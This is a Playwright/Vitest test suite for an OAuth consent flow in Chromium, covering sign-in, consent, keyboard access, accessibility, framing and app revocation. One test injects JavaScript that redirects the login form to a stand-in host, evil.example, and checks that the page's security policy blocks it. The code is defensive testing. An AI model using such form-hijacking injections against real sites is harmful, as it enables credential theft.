import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { AxeBuilder } from '@axe-core/playwright';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { openPagesHouse, type PagesHouse, password, webCallback } from '../plugins/oauth/pages-house.ts';
import { verifies } from '../requirements.ts';
import { describeInChromium, openChromium } from '../support/browser.ts';
import { sqliteStore, type TestStore } from '../support/stores.ts';

const phone = { width: 360, height: 740 };

describeInChromium('the pages in Chromium', () => {
  let store: TestStore;
  let house: PagesHouse;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  /** An app on this machine: it is called back, and shows other pages in frames. */
  let app: Server;
  let appUrl: string;
  const called: string[] = [];

  beforeAll(async () => {
    store = await sqliteStore();
    house = await openPagesHouse(store, { now: Date.now });
    // The app on the web is not there; that the browser sets out for it is enough.
    browser = await openChromium([
      '--host-resolver-rules=MAP app.example.com 127.0.0.1:1,MAP evil.example 127.0.0.1:1',
    ]);
    app = createServer((request, response) => {
      const { pathname, searchParams } = new URL(request.url ?? '', 'http://app');
      if (pathname === '/callback') called.push(searchParams.toString());
      const framed = searchParams.get('frame');
      response.setHeader('content-type', 'text/html');
      response.end(framed === null ? 'Done' : `<iframe src="${framed}" width="600" height="600"></iframe>`);
    }).listen(0, '127.0.0.1');
    await new Promise(resolve => app.once('listening', resolve));
    appUrl = `http://127.0.0.1:${(app.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    await browser?.close();
    app?.close();
    await house?.stop();
    await store?.drop();
  });
  beforeEach(async () => {
    context = await browser.newContext({ viewport: phone, javaScriptEnabled: true });
    page = await context.newPage();
    page.setDefaultTimeout(60_000);
  });
  afterEach(() => context.close());

  async function ask(input: { redirectUri?: string; name?: string } = {}): Promise<string> {
    const { redirectUri = `${appUrl}/callback`, name = 'Claude' } = input;
    const clientId = await house.register({ client_name: name, redirect_uris: [redirectUri] });
    const path = house.request({ clientId, redirect_uri: redirectUri, scope: 'read write create delete' });
    await page.goto(`${house.origin}${path}`);
    return clientId;
  }
  async function signIn(): Promise<void> {
    await page.getByLabel('Login').fill('sara');
    await page.getByLabel('Password').fill(password);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('heading', { name: /Connect/ }).waitFor();
  }
  const faults = async () =>
    (await new AxeBuilder({ page }).analyze()).violations.map(({ id, nodes }) => [id, nodes[0]?.html]);
  const isTooWide = () => page.evaluate('document.documentElement.scrollWidth > window.innerWidth');

  test(`${verifies('OAUTH-6')} from the app to sign-in, consent, and back to the app with a code`, async () => {
    await ask();
    await signIn();
    await page.getByRole('checkbox', { name: /^Delete/ }).uncheck();
    await page.getByRole('button', { name: 'Connect', exact: true }).click();
    await page.getByText('Done').waitFor();
    expect(called.at(-1)).toContain('code=');
    expect(called.at(-1)).toContain('state=state-1');
  }, 120_000);

  test('with script turned off it is the same', async () => {
    await context.close();
    context = await browser.newContext({ javaScriptEnabled: false });
    page = await context.newPage();
    await ask();
    await signIn();
    await page.getByRole('button', { name: 'Do not connect' }).click();
    await page.getByText('Done').waitFor();
    expect(called.at(-1)).toContain('error=access_denied');
  }, 120_000);

  test('a site on the web gets its answer through the policy of the page, also when nothing is asked', async () => {
    const sent: string[] = [];
    page.on('request', request => sent.push(request.url()));
    await ask({ redirectUri: webCallback });
    await signIn();
    const reached = () => sent.filter(url => url.startsWith(`${webCallback}?`) && url.includes('code='));
    await page.getByRole('button', { name: 'Connect', exact: true }).click();
    await expect.poll(reached, { timeout: 60_000 }).toHaveLength(1);
  }, 120_000);

  test('a form that leads elsewhere is not sent', async () => {
    const sent: string[] = [];
    page.on('request', request => sent.push(request.url()));
    await ask();
    await signIn();
    const violation = await page.evaluate(`new Promise(resolve => {
      document.addEventListener('securitypolicyviolation', event => resolve(event.effectiveDirective));
      document.forms[0].action = 'https://evil.example/take';
      document.forms[0].submit();
    })`);
    expect(violation).toBe('form-action');
    expect(sent.filter(url => url.includes('evil.example'))).toEqual([]);
  }, 120_000);

  test('no other site can show a page in a frame', async () => {
    await ask();
    await signIn();
    const consent = page.url();
    await page.goto(`${appUrl}/?frame=${encodeURIComponent(consent)}`);
    const frame = page.frames().find(one => one !== page.mainFrame());
    await expect.poll(() => frame?.url(), { timeout: 60_000 }).toBe('chrome-error://chromewebdata/');
    expect(await frame?.getByRole('button', { name: 'Connect', exact: true }).count()).toBe(0);
  }, 120_000);

  test('an app that opens the pages in a window of its own gets its answer there', async () => {
    const clientId = await house.register({ redirect_uris: [`${appUrl}/callback`] });
    const asked = `${house.origin}${house.request({ clientId, redirect_uri: `${appUrl}/callback` })}`;
    await page.goto(appUrl);
    const opening = page.waitForEvent('popup');
    await page.evaluate(`void window.open(${JSON.stringify(asked)})`);
    page = await opening;
    await signIn();
    await page.getByRole('button', { name: 'Connect', exact: true }).click();
    await page.getByText('Done').waitFor();
    expect(await page.evaluate('window.opener !== null')).toBe(true);
  }, 120_000);

  test('the keyboard alone is enough', async () => {
    await ask();
    await page.keyboard.press('Tab');
    await page.keyboard.type('sara');
    await page.keyboard.press('Tab');
    await page.keyboard.type(password);
    await page.keyboard.press('Enter');
    await page.getByRole('heading', { name: /Connect/ }).waitFor();
    const seen: unknown[] = [];
    for (let stop = 0; stop < 6; stop += 1) {
      await page.keyboard.press('Tab');
      seen.push(await page.evaluate('document.activeElement.value ?? document.activeElement.textContent'));
    }
    expect(seen).toEqual(['read', 'write', 'create', 'delete', 'connected apps', 'approve']);
    await page.keyboard.press('Enter');
    await page.getByText('Done').waitFor();
    expect(called.at(-1)).toContain('code=');
  }, 120_000);

  test('readable for a screen reader and on a phone, in light and in dark', async () => {
    for (const colorScheme of ['light', 'dark'] as const) {
      await context.close();
      context = await browser.newContext({ viewport: phone, colorScheme });
      page = await context.newPage();
      const look = async (what: string) => {
        expect(await faults(), `${what}, ${colorScheme}`).toEqual([]);
        expect(await isTooWide(), `${what}, ${colorScheme}`).toBe(false);
      };
      await ask({ name: 'A name without a space '.replaceAll(' ', '').repeat(3) });
      await look('sign-in');
      await page.getByLabel('Login').fill('sara');
      await page.getByLabel('Password').fill('wrong');
      await page.getByRole('button', { name: 'Sign in' }).click();
      await page.getByRole('alert').waitFor();
      await look('refused sign-in');
      await signIn();
      await look('consent');
      await page.getByRole('button', { name: 'Connect', exact: true }).click();
      await page.getByText('Done').waitFor();
      await page.goto(`${house.origin}/mcp/oauth/apps`);
      await page.getByRole('heading', { name: 'Connected apps' }).waitFor();
      await look('connected apps');
      await page.goto(`${house.origin}/mcp/oauth/interaction/none`);
      await look('error');
    }
  }, 240_000);

  test('ending an app takes one press', async () => {
    await ask({ name: 'Short-lived' });
    await signIn();
    await page.getByRole('button', { name: 'Connect', exact: true }).click();
    await page.getByText('Done').waitFor();
    await page.goto(`${house.origin}/mcp/oauth/apps`);
    await page.getByRole('button', { name: 'End the connection of Short-lived' }).click();
    await page.getByRole('heading', { name: 'Connected apps' }).waitFor();
    await expect.poll(() => page.getByRole('heading', { name: 'Short-lived' }).count(), { timeout: 60_000 }).toBe(0);
  }, 120_000);
});
